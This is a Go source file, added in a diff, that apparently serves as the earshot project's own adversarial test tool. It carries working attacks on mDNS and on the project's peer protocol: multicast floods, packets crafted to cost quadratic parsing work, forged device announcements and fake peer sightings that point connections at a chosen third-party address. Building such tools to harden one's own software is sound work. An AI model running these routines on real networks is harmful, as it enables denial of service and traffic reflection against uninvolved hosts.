@@ -1,0 +1,246 @@
+package main
+
+import (
+	"context"
+	"encoding/binary"
+	"errors"
+	"fmt"
+	"net"
+	"net/netip"
+	"slices"
+	"time"
+
+	"github.com/miekg/dns"
+
+	"github.com/earshot-im/earshot/cmd/hostile/rogue"
+	"github.com/earshot-im/earshot/crypto"
+	"github.com/earshot-im/earshot/node/wire"
+)
+
+const (
+	service  = "_earshot._tcp.local."
+	mdnsPort = 5353
+	// privileged is where the ports begin that any program may have.
+	privileged = 1024
+	// largest is as much as a UDP packet may have, nearly.
+	largest = 60_000
+)
+
+var mdnsGroup = net.IPv4(224, 0, 0, 251)
+
+func init() {
+	add(map[string]attack{
+		"questions": {about: "one mDNS packet of size bytes that is all questions, n times", n: 1, size: largest, run: (*attacker).questions},
+		"answers":   {about: "mDNS packets of size bytes: many instances on one host of many addresses, n a second", n: 5, size: largest, run: (*attacker).answers},
+		"forged":    {about: "n devices announced at -target, at ports from size up, round and round", n: 1000, size: 500, run: (*attacker).forged},
+		"sightings": {about: "n sessions that tell of devices at -target, at ports from size up", n: 4, size: 500, run: (*attacker).sightings},
+		"hear":      {about: "no attack: counts mDNS packets by sender", run: (*attacker).hear},
+		"listen":    {about: "no attack: counts connections to -target, to n ports from size up", n: 1500, size: 500, run: (*attacker).listen},
+	})
+}
+
+// multicast opens a socket that sends to everybody.
+func (a *attacker) multicast(ctx context.Context) (*net.UDPConn, error) {
+	from := &net.UDPAddr{Port: mdnsPort}
+	if s := a.Source(0); s.IsValid() {
+		from.IP = s.AsSlice()
+	}
+	c, err := net.DialUDP("udp4", from, &net.UDPAddr{IP: mdnsGroup, Port: mdnsPort})
+	if err == nil {
+		context.AfterFunc(ctx, func() { _ = c.Close() })
+	}
+	return c, err
+}
+
+func (a *attacker) packet(ctx context.Context, c *net.UDPConn, b []byte) {
+	if _, err := c.Write(b); err != nil {
+		a.Failed(ctx, "packet", err)
+		sleep(ctx, time.Millisecond)
+		return
+	}
+	a.Count("packets", 1)
+	a.Count("bytes", len(b))
+}
+
+// questions asks for one thing as often as a packet holds: each question after the first points to
+// its name.
+func (a *attacker) questions(ctx context.Context) error {
+	c, err := a.multicast(ctx)
+	if err != nil {
+		return err
+	}
+	b := append(make([]byte, 12), "\x08_earshot\x04_tcp\x05local\x00\x00\x0c\x00\x01"...)
+	many := 1
+	for len(b)+6 < a.size {
+		b = append(b, 0xc0, 12, 0, 12, 0, 1)
+		many++
+	}
+	binary.BigEndian.PutUint16(b[4:], uint16(many))
+	a.Count("questions", many*a.n)
+	for range a.n {
+		a.packet(ctx, c, b)
+		sleep(ctx, 100*time.Millisecond)
+	}
+	<-ctx.Done()
+	return nil
+}
+
+// answers names many instances on one host, and then many addresses of that host.
+func (a *attacker) answers(ctx context.Context) error {
+	c, err := a.multicast(ctx)
+	if err != nil {
+		return err
+	}
+	for sleep(ctx, time.Second/time.Duration(a.n)) {
+		a.packet(ctx, c, quadratic(a.size))
+	}
+	return nil
+}
+
+// quadratic makes a packet whose work is the product of its two halves where each instance is given
+// each address.
+func quadratic(size int) []byte {
+	const hostAt, ttl = 12, "\x00\x00\x00\x78"
+	b := []byte{2: 0x84, 11: 0}
+	b = append(b, "\x01h\x05local\x00\x00\x01\x00\x01"+ttl+"\x00\x04\x0a\x63\x00\x01"...)
+	serviceAt := len(b)
+	b = append(b, "\x08_earshot\x04_tcp\xc0"...)
+	b = append(b, hostAt+2)
+	b = append(b, "\x00\x10\x00\x01"+ttl+"\x00\x02\x01x"...)
+	many := 2
+	for i := 0; len(b) < size/2; i++ {
+		b = append(b, 3, byte('a'+i%26), byte('a'+i/26%26), byte('a'+i/676), 0xc0, byte(serviceAt))
+		b = append(b, "\x00\x21\x00\x01"+ttl+"\x00\x08\x00\x00\x00\x00\x10\x00\xc0"...)
+		b = append(b, hostAt)
+		many++
+	}
+	for i := 0; len(b) < size; i++ {
+		b = append(b, 0xc0, hostAt)
+		b = append(b, "\x00\x01\x00\x01"+ttl+"\x00\x04\x0a\x62"...)
+		b = binary.BigEndian.AppendUint16(b, uint16(i))
+		many++
+	}
+	binary.BigEndian.PutUint16(b[6:], uint16(many))
+	return b
+}
+
+// forged announces devices where somebody else is.
+func (a *attacker) forged(ctx context.Context) error {
+	c, err := a.multicast(ctx)
+	if err != nil {
+		return err
+	}
+	var packets [][]byte
+	for i := range a.n {
+		packets = append(packets, announcement(a.target, uint16(a.size+i), i))
+	}
+	for ctx.Err() == nil {
+		for _, b := range packets {
+			a.packet(ctx, c, b)
+			if !sleep(ctx, time.Millisecond) {
+				return nil
+			}
+		}
+	}
+	return nil
+}
+
+// announcement is what a node would say of itself that were there.
+func announcement(at netip.Addr, port uint16, i int) []byte {
+	var device crypto.DeviceID
+	rogue.Random(device[:])
+	instance, host := fmt.Sprintf("%08x.%s", i, service), fmt.Sprintf("h%08x.local.", i)
+	header := func(name string, kind uint16) dns.RR_Header {
+		return dns.RR_Header{Name: name, Rrtype: kind, Class: dns.ClassINET, Ttl: 120}
+	}
+	m := &dns.Msg{Compress: true}
+	m.Response = true
+	m.Answer = []dns.RR{
+		&dns.PTR{Hdr: header(service, dns.TypePTR), Ptr: instance},
+		&dns.SRV{Hdr: header(instance, dns.TypeSRV), Port: port, Target: host},
+		&dns.TXT{Hdr: header(instance, dns.TypeTXT), Txt: []string{"v=1", "id=" + device.String()}},
+	}
+	m.Extra = []dns.RR{&dns.A{Hdr: header(host, dns.TypeA), A: at.AsSlice()}}
+	return rogue.Must(m.Pack())
+}
+
+// sightings tells of devices where somebody else is.
+func (a *attacker) sightings(ctx context.Context) error {
+	a.again(ctx, func(i int) error {
+		s, err := a.Enter(ctx, a.Source(i), a.Person(i, "Sightings"))
+		if err != nil {
+			return err
+		}
+		defer s.Close()
+		for port := uint16(a.size); ctx.Err() == nil; {
+			var f wire.Sightings
+			for range wire.MaxSightings {
+				var one wire.Sighting
+				rogue.Random(one.Device[:])
+				for range wire.MaxAddresses {
+					one.Addresses = append(one.Addresses, netip.AddrPortFrom(a.target, max(port, 1)))
+					port++
+				}
+				f.Sightings = append(f.Sightings, one)
+			}
+			if err := s.Send(wire.Frame{Sightings: &f}); err != nil {
+				return err
+			}
+			a.Count("sightings", wire.MaxSightings)
+		}
+		return nil
+	})
+	return nil
+}
+
+// hear counts what everybody multicasts.
+func (a *attacker) hear(ctx context.Context) error {
+	all, err := net.Interfaces()
+	if err != nil {
+		return err
+	}
+	lan := slices.IndexFunc(all, func(i net.Interface) bool { return i.Flags&(net.FlagUp|net.FlagLoopback) == net.FlagUp })
+	if lan < 0 {
+		return errors.New("no interface is up")
+	}
+	l, err := net.ListenMulticastUDP("udp4", &all[lan], &net.UDPAddr{IP: mdnsGroup, Port: mdnsPort})
+	if err != nil {
+		return err
+	}
+	context.AfterFunc(ctx, func() { _ = l.Close() })
+	_ = l.SetReadBuffer(16 << 20) // as much as the system lets
+	for b := make([]byte, 1<<16); ; {
+		n, from, err := l.ReadFromUDPAddrPort(b)
+		if err != nil {
+			return nil // the attack is over
+		}
+		a.Count(fmt.Sprint(from.Addr(), " packets"), 1)
+		a.Count(fmt.Sprint(from.Addr(), " bytes"), n)
+	}
+}
+
+// listen is the third party.
+func (a *attacker) listen(ctx context.Context) error {
+	for i := range a.n {
+		l, err := (&net.ListenConfig{}).Listen(ctx, "tcp", netip.AddrPortFrom(a.target, uint16(a.size+i)).String())
+		if err != nil {
+			return err
+		}
+		context.AfterFunc(ctx, func() { _ = l.Close() })
+		go func() { // ends with the listener
+			for {
+				c, err := l.Accept()
+				if err != nil {
+					return
+				}
+				a.Count("connections", 1)
+				if a.size+i < privileged {
+					a.Count("connections to ports below 1024", 1)
+				}
+				_ = c.Close()
+			}
+		}()
+	}
+	<-ctx.Done()
+	return nil
+}
